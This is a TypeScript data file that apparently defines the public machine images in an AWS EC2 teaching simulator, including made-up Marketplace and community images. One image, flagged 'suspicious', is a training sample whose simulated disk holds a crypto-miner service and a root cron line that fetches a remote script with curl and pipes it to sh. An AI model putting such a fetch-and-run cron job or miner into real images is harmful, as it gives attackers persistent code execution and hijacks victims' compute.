import type {Disk} from '../core/types.js';

// The AMIs every fresh world offers in every Region: the four sources of AMIs a learner meets.
// Names follow the real naming schemes; the Marketplace vendors and community owners are made up.

export const AMAZON_OWNER = '137112412989';
export const AMAZON_WINDOWS_OWNER = '801119661308';
export const CANONICAL_OWNER = '099720109477';
export const MARKETPLACE_OWNER = '679593333241';

export type PublicImageSpec = {
	key: string;
	Name: string;
	Description: string;
	OwnerId: string;
	ImageOwnerAlias?: 'amazon' | 'aws-marketplace';
	Architecture: 'x86_64' | 'arm64';
	Platform?: 'windows';
	PlatformDetails: string;
	UsageOperation: string;
	RootDeviceName: string;
	rootSize: number;
	/** the root volume's type (gp3 unless said) */
	volumeType?: 'gp2' | 'standard';
	BootMode?: string;
	ImdsSupport?: string;
	/** days before the world's start the image was published */
	ageDays: number;
	productCode?: string;
	softwarePricePerHour?: number;
	licencePricePerHour?: number;
	suspicious?: boolean;
	/** the snapshot is not shared with everyone (its AMI can be launched, not copied, by others) */
	privateSnapshot?: boolean;
	disk: Disk;
};

const linuxDisk = (os: string, extra: string[] = [], services: Disk['services'] = {}, files: Disk['files'] = {}): Disk => ({
	os,
	packages: ['bash', 'coreutils', 'curl', 'openssh-server', 'sudo', 'systemd', ...extra].sort(),
	services: {sshd: {enabled: true, active: true}, ...services},
	files: {'/etc/os-release': `NAME="${os}"\n`, ...files},
});

export const PUBLIC_IMAGES: PublicImageSpec[] = [
	{
		key: 'al2023-x86',
		Name: 'al2023-ami-2023.9.20260825.0-kernel-6.1-x86_64',
		Description: 'Amazon Linux 2023 AMI 2023.9.20260825.0 x86_64 HVM kernel-6.1',
		OwnerId: AMAZON_OWNER,
		ImageOwnerAlias: 'amazon',
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 8,
		BootMode: 'uefi-preferred',
		ImdsSupport: 'v2.0',
		ageDays: 7,
		disk: linuxDisk('Amazon Linux 2023', ['dnf']),
	},
	{
		key: 'al2023-x86-old',
		Name: 'al2023-ami-2023.8.20260728.0-kernel-6.1-x86_64',
		Description: 'Amazon Linux 2023 AMI 2023.8.20260728.0 x86_64 HVM kernel-6.1',
		OwnerId: AMAZON_OWNER,
		ImageOwnerAlias: 'amazon',
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 8,
		BootMode: 'uefi-preferred',
		ImdsSupport: 'v2.0',
		ageDays: 35,
		disk: linuxDisk('Amazon Linux 2023', ['dnf']),
	},
	{
		key: 'al2023-arm',
		Name: 'al2023-ami-2023.9.20260825.0-kernel-6.1-arm64',
		Description: 'Amazon Linux 2023 AMI 2023.9.20260825.0 arm64 HVM kernel-6.1',
		OwnerId: AMAZON_OWNER,
		ImageOwnerAlias: 'amazon',
		Architecture: 'arm64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 8,
		BootMode: 'uefi',
		ImdsSupport: 'v2.0',
		ageDays: 7,
		disk: linuxDisk('Amazon Linux 2023', ['dnf']),
	},
	{
		key: 'ubuntu-2404',
		Name: 'ubuntu/images/hvm-ssd-gp3/ubuntu-noble-24.04-amd64-server-20260818',
		Description: 'Canonical, Ubuntu, 24.04, amd64 noble image',
		OwnerId: CANONICAL_OWNER,
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/sda1',
		rootSize: 8,
		BootMode: 'uefi-preferred',
		ImdsSupport: 'v2.0',
		ageDays: 14,
		disk: linuxDisk('Ubuntu 24.04 LTS', ['apt']),
	},
	{
		key: 'windows-2025',
		Name: 'Windows_Server-2025-English-Full-Base-2026.08.13',
		Description: 'Microsoft Windows Server 2025 Full Locale English AMI provided by Amazon',
		OwnerId: AMAZON_WINDOWS_OWNER,
		ImageOwnerAlias: 'amazon',
		Architecture: 'x86_64',
		Platform: 'windows',
		PlatformDetails: 'Windows',
		UsageOperation: 'RunInstances:0002',
		RootDeviceName: '/dev/sda1',
		rootSize: 30,
		BootMode: 'uefi',
		ageDays: 19,
		licencePricePerHour: 0.0092,
		disk: {os: 'Windows Server 2025', packages: ['powershell'], services: {'remote-desktop': {enabled: true, active: true}}, files: {}},
	},
	{
		key: 'mp-lms',
		Name: 'classcloud-lms-4.2.1-al2023-x86_64',
		Description: 'ClassCloud Learning Management System 4.2.1 (AWS Marketplace)',
		OwnerId: MARKETPLACE_OWNER,
		ImageOwnerAlias: 'aws-marketplace',
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 20,
		BootMode: 'uefi-preferred',
		ImdsSupport: 'v2.0',
		ageDays: 40,
		productCode: '3k9x1v7qz2m8n4b6c0d5e1f7g',
		softwarePricePerHour: 0.12,
		disk: linuxDisk('Amazon Linux 2023', ['dnf', 'classcloud-lms', 'httpd'], {httpd: {enabled: true, active: true}}, {'/var/www/html/index.html': '<h1>ClassCloud LMS</h1>\n'}),
	},
	{
		key: 'mp-firewall',
		Name: 'gatekeeper-ngfw-7.4.3-x86_64-ebs',
		Description: 'GateKeeper Next-Generation Firewall 7.4.3, pay as you go (AWS Marketplace)',
		OwnerId: MARKETPLACE_OWNER,
		ImageOwnerAlias: 'aws-marketplace',
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 10,
		ageDays: 60,
		productCode: '8h2j4k6l8m0n2p4q6r8s0t2u4',
		softwarePricePerHour: 0.36,
		disk: linuxDisk('GateKeeper OS', ['gatekeeper-ngfw'], {gatekeeper: {enabled: true, active: true}}),
	},
	{
		key: 'community-hardened',
		Name: 'cis-hardened-al2023-level1-2026.08',
		Description: 'Amazon Linux 2023 hardened to CIS Level 1 by the Open Schools Foundation',
		OwnerId: '444455556666',
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 8,
		BootMode: 'uefi-preferred',
		ImdsSupport: 'v2.0',
		ageDays: 21,
		disk: linuxDisk('Amazon Linux 2023', ['dnf', 'aide', 'audit']),
	},
	{
		key: 'community-suspicious',
		Name: 'al2023-ami-2023-FAST-free-premium-tools-x86_64',
		Description: 'Amazon Linux 2023 latest with free premium tools preinstalled!!',
		OwnerId: '777788889999',
		Architecture: 'x86_64',
		PlatformDetails: 'Linux/UNIX',
		UsageOperation: 'RunInstances',
		RootDeviceName: '/dev/xvda',
		rootSize: 8,
		ageDays: 3,
		suspicious: true,
		privateSnapshot: true,
		disk: linuxDisk('Amazon Linux 2023', ['dnf', 'xmr-miner'], {'xmr-miner': {enabled: true, active: true}}, {'/etc/cron.d/update': '* * * * * root curl -s http://203.0.113.66/p.sh | sh\n'}),
	},
];

// The other images behind the public latest-AMI parameters (ssm/public-parameters.ts): Amazon
// Linux 2023 minimal, and Amazon Linux 2 (kernel 4.14 and 5.10, and minimal), x86_64 and arm64.
// Appended last, so the IDs of the images above stay as they were.
const amazonLinux = (key: string, Name: string, Description: string, arch: 'x86_64' | 'arm64', extra: Partial<PublicImageSpec>): PublicImageSpec => ({
	key,
	Name,
	Description,
	OwnerId: AMAZON_OWNER,
	ImageOwnerAlias: 'amazon',
	Architecture: arch,
	PlatformDetails: 'Linux/UNIX',
	UsageOperation: 'RunInstances',
	RootDeviceName: '/dev/xvda',
	rootSize: 8,
	ageDays: 7,
	disk: linuxDisk('Amazon Linux 2023', ['dnf']),
	...extra,
});

/**
 * Amazon Linux 2023 publishes each release once per supported kernel (kernel-6.1, kernel-6.12),
 * on the same day; from June 2026 the default kernel, the one al2023-ami-kernel-default-* names,
 * moves to the newest long-term one every year (Amazon Linux 2023 User Guide, "The Amazon Linux
 * kernel"). In this world's September 2026 that is 6.12.
 */
export const AL2023_DEFAULT_KERNEL = '6.12';

const AL2_RELEASE = '2.0.20260818.0';
for (const arch of ['x86_64', 'arm64'] as const) {
	PUBLIC_IMAGES.push(
		amazonLinux(`al2023-minimal-${arch}`, `al2023-ami-minimal-2023.9.20260825.0-kernel-6.1-${arch}`, `Amazon Linux 2023 AMI 2023.9.20260825.0 ${arch} Minimal HVM kernel-6.1`, arch, {
			rootSize: 2,
			BootMode: arch === 'arm64' ? 'uefi' : 'uefi-preferred',
			ImdsSupport: 'v2.0',
		}),
		amazonLinux(`amzn2-${arch}`, `amzn2-ami-hvm-${AL2_RELEASE}-${arch}-gp2`, `Amazon Linux 2 AMI ${AL2_RELEASE} ${arch} HVM gp2`, arch, {
			volumeType: 'gp2',
			BootMode: arch === 'arm64' ? 'uefi' : undefined,
			ageDays: 14,
			disk: linuxDisk('Amazon Linux 2', ['yum']),
		}),
		amazonLinux(`amzn2-kernel-5.10-${arch}`, `amzn2-ami-kernel-5.10-hvm-${AL2_RELEASE}-${arch}-gp2`, `Amazon Linux 2 Kernel 5.10 AMI ${AL2_RELEASE} ${arch} HVM gp2`, arch, {
			volumeType: 'gp2',
			BootMode: arch === 'arm64' ? 'uefi' : undefined,
			ageDays: 14,
			disk: linuxDisk('Amazon Linux 2', ['yum']),
		}),
		amazonLinux(`amzn2-minimal-${arch}`, `amzn2-ami-minimal-hvm-${AL2_RELEASE}-${arch}-ebs`, `Amazon Linux 2 AMI ${AL2_RELEASE} ${arch} Minimal HVM ebs`, arch, {
			volumeType: 'standard',
			rootSize: 2,
			BootMode: arch === 'arm64' ? 'uefi' : undefined,
			ageDays: 14,
			disk: linuxDisk('Amazon Linux 2', ['yum']),
		}),
	);
}

// The kernel-6.12 images of the newest Amazon Linux 2023 release (appended last, as above).
for (const arch of ['x86_64', 'arm64'] as const) {
	const bootMode = arch === 'arm64' ? 'uefi' : 'uefi-preferred';
	PUBLIC_IMAGES.push(
		amazonLinux(`al2023-6.12-${arch}`, `al2023-ami-2023.9.20260825.0-kernel-6.12-${arch}`, `Amazon Linux 2023 AMI 2023.9.20260825.0 ${arch} HVM kernel-6.12`, arch, {BootMode: bootMode, ImdsSupport: 'v2.0'}),
		amazonLinux(`al2023-minimal-6.12-${arch}`, `al2023-ami-minimal-2023.9.20260825.0-kernel-6.12-${arch}`, `Amazon Linux 2023 AMI 2023.9.20260825.0 ${arch} Minimal HVM kernel-6.12`, arch, {rootSize: 2, BootMode: bootMode, ImdsSupport: 'v2.0'}),
	);
}
